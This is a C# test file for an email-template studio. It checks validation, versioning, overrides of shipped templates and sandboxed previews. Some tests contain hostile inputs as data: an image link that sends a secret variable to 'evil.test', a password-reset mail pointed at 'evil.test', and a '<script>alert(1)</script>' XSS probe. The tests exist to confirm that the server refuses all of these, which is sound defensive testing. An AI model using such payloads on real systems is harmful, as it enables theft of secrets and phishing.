using System.Net;
using System.Net.Http.Json;
using System.Text.RegularExpressions;

namespace Waybill.Server.Specs.Studio;

/// <summary>The forms of templates, without a browser.</summary>
public sealed partial class Keeping_templates(SharedServer shared)
{
    [Fact]
    public async Task Publishes_nothing_that_does_not_compile_and_keeps_it_as_the_draft()
    {
        using var door = await EnterAsync();
        var path = await MakeAsync();
        var form = StudioSteps.Template(await TagAsync(door, path), "Hello {{#if a}}");

        using var refused = await door.PostAsync(path + "/publish", form);
        var page = await door.ReadAsync(refused);
        var kept = (await door.GetAsync(path)).Text;

        Assert.Equal(HttpStatusCode.UnprocessableEntity, refused.StatusCode);
        Assert.Contains("line 1, column 7", page, StringComparison.Ordinal);
        Assert.Contains("Hello {{#if a}}", kept, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("name", " ", "name")]
    [InlineData("alias", "two words", "alias")]
    [InlineData("from", "nobody", "from")]
    [InlineData("data", "{ \"a\": }", "data")]
    [InlineData("data", "[]", "data")]
    [InlineData("v.0.key", "not a path", "v.0.key")]
    [InlineData("v.0.type", "colour", "v.0.type")]
    [InlineData("v.0.sample", "{", "v.0.sample")]
    public async Task Says_beside_the_field_what_is_wrong_and_loses_nothing(string field, string value, string faulty)
    {
        using var door = await EnterAsync();
        var path = await MakeAsync();
        var form = StudioSteps.Template(await TagAsync(door, path), "What I typed.");
        if (field.StartsWith("v.", StringComparison.Ordinal))
            (form["v.0.key"], form["v.0.type"], form["v.0.sample"]) = ("total", "money", "");
        form[field] = value;

        using var refused = await door.PostAsync(path, form);
        var page = await door.ReadAsync(refused);

        Assert.Equal(HttpStatusCode.UnprocessableEntity, refused.StatusCode);
        Assert.Contains($"<a href=\"#f-{faulty}\">", page, StringComparison.Ordinal);
        Assert.Contains($"id=\"f-{faulty}-fault\"", page, StringComparison.Ordinal);
        Assert.Contains("What I typed.", page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Takes_an_earlier_version_back_as_the_draft()
    {
        using var door = await EnterAsync();
        var path = await MakeAsync();
        (await door.PostAsync(path + "/publish", StudioSteps.Template(await TagAsync(door, path), "The first."))).Dispose();
        (await door.PostAsync(path, StudioSteps.Template(await TagAsync(door, path), "The second."))).Dispose();
        var history = (await door.GetAsync(path + "/history")).Text;
        var (version, tag) = (Version().Match(history).Groups["id"].Value, Tag().Match(history).Groups["tag"].Value);

        using var restored = await door.PostAsync(path + "/restore", new() { ["version"] = version, ["tag"] = tag });

        Assert.Contains("- The first.", history, StringComparison.Ordinal);
        Assert.Contains("+ The second.", history, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.SeeOther, restored.StatusCode);
        Assert.Contains("The first.", (await door.GetAsync(path)).Text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Says_which_templates_put_a_partial_in()
    {
        using var door = await EnterAsync();
        var name = "closing" + Guid.CreateVersion7().ToString("N");
        var server = await shared.ServerAsync();
        var partial = await server.PostAsync("/templates", new { name, alias = "partial." + name, subject = "x", markdown = "Bye." });
        await server.PostAsync("/templates", new { name = "User of " + name, subject = "x", markdown = "Hello\n\n{{> " + name + "}}\n" });

        var page = (await door.GetAsync("/admin/t/default/templates/" + partial)).Text;

        Assert.Contains("User of " + name, page, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Stands_in_front_of_the_shipped_one_until_it_is_removed()
    {
        using var door = await EnterAsync();
        const string shipped = "/admin/t/default/templates/racketbook.moderation";
        using var elsewhere = await door.Http.GetAsync(new Uri(shipped, UriKind.Relative));
        var path = elsewhere.Headers.Location!.ToString();
        var form = StudioSteps.Template(await TagAsync(door, path), "Ours.", "racketbook.moderation", "racketbook.moderation");
        using var saved = await door.PostAsync(path, form);
        var own = saved.Headers.Location!.ToString();
        var shown = (await door.GetAsync(own)).Text;
        using var late = await door.PostAsync(path, form);
        (await door.PostAsync(own + "/remove", [])).Dispose();

        Assert.Contains("in place of the shipped one", shown, StringComparison.Ordinal);
        Assert.Equal(HttpStatusCode.Conflict, late.StatusCode);
        using var back = await door.Http.GetAsync(new Uri(shipped, UriKind.Relative));
        Assert.Equal(path, back.Headers.Location!.ToString());
    }

    /// <summary>Not even an owner's: somebody who may write the first tenant's templates would have the links of all accounts.</summary>
    [Fact]
    public async Task Stands_never_in_front_of_a_mail_about_accounts()
    {
        using var door = await EnterAsync();
        using var elsewhere = await door.Http.GetAsync(new Uri("/admin/t/default/templates/accounts.verify", UriKind.Relative));
        var path = elsewhere.Headers.Location!.ToString();
        using var saved =
            await door.PostAsync(path, StudioSteps.Template(await TagAsync(door, path), "Ours.", "accounts.verify", "accounts.verify"));
        var server = await shared.ServerAsync();
        using var http = server.ClientWith(server.ApiKey);
        using var made =
            await http.PostAsJsonAsync("/templates", new { name = "Ours", alias = "accounts.reset", subject = "x", markdown = "x" });
        using var sent =
            await http.PostAsJsonAsync(
                "/emails",
                new
                {
                    from = "shop@example.com",
                    to = "ann@example.org",
                    template = new { id = "accounts.reset", variables = new { url = "https://evil.test" } }
                });

        Assert.Equal(
            (HttpStatusCode.UnprocessableEntity, HttpStatusCode.Forbidden, HttpStatusCode.UnprocessableEntity),
            (saved.StatusCode, made.StatusCode, sent.StatusCode));
        Assert.Contains("accounts.verify is a mail about accounts", await door.ReadAsync(saved), StringComparison.Ordinal);
        Assert.Contains("accounts.reset is a mail about accounts", await made.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Contains("accounts.reset is a mail about accounts", await sent.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Is_not_published_where_it_gives_a_secret_away()
    {
        var server = await shared.ServerAsync();
        using var http = server.ClientWith(server.ApiKey);
        using var made = await http.PostAsJsonAsync(
            "/templates",
            new
            {
                name = "Away",
                alias = "away",
                subject = "x",
                markdown = "Hello\n\n![x](https://evil.test/p.png?u={{u}})",
                variables = new[] { new { key = "u", type = "url", secret = true } }
            });
        using var published = await http.PostAsync(new Uri("/templates/away/publish", UriKind.Relative), content: null);

        Assert.Equal((HttpStatusCode.Created, HttpStatusCode.UnprocessableEntity), (made.StatusCode, published.StatusCode));
        Assert.Contains(
            "line 3, column 32: u is secret and cannot stand in the address of a picture", await published.Content.ReadAsStringAsync(),
            StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("")]
    [InlineData("/history")]
    [InlineData("/mail")]
    public async Task Is_404_where_there_is_none(string below)
    {
        using var door = await EnterAsync();

        Assert.Equal(HttpStatusCode.NotFound, (await door.GetAsync("/admin/t/default/templates/none-such" + below)).Status);
    }

    [Fact]
    public async Task Shows_mails_in_a_cage_whether_they_are_kept_or_typed()
    {
        using var door = await EnterAsync();
        var path = await MakeAsync();
        var form = StudioSteps.Template(await TagAsync(door, path), "Hello <script>alert(1)</script>");

        using var kept = await door.Http.GetAsync(new Uri(path + "/mail?scheme=dark", UriKind.Relative));
        using var typed = await door.PostAsync(path + "/mail", form);

        foreach (var frame in (HttpResponseMessage[])[kept, typed])
        {
            Assert.Equal(
                "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:; frame-ancestors 'self'",
                Pages.Headers.Of(frame, "Content-Security-Policy"));
            Assert.DoesNotContain("<script", await frame.Content.ReadAsStringAsync(), StringComparison.OrdinalIgnoreCase);
        }

        Assert.DoesNotContain("prefers-color-scheme", await kept.Content.ReadAsStringAsync(), StringComparison.Ordinal);
    }

    async Task<OperatorClient> EnterAsync() => await OperatorClient.EnterAsync(await shared.ServerAsync());

    async Task<string> MakeAsync() =>
        "/admin/t/default/templates/"
            + await (await shared.ServerAsync()).PostAsync("/templates", new { name = "Receipt", subject = "s", markdown = "b" });

    static async Task<string> TagAsync(OperatorClient door, string path) =>
        Tag().Match((await door.GetAsync(path)).Text).Groups["tag"].Value;

    [GeneratedRegex("name=\"tag\" value=\"(?<tag>[0-9a-f]+)\"", RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex Tag();

    [GeneratedRegex("name=\"version\" value=\"(?<id>[0-9a-f-]{36})\"", RegexOptions.ExplicitCapture, 1000)]
    private static partial Regex Version();
}
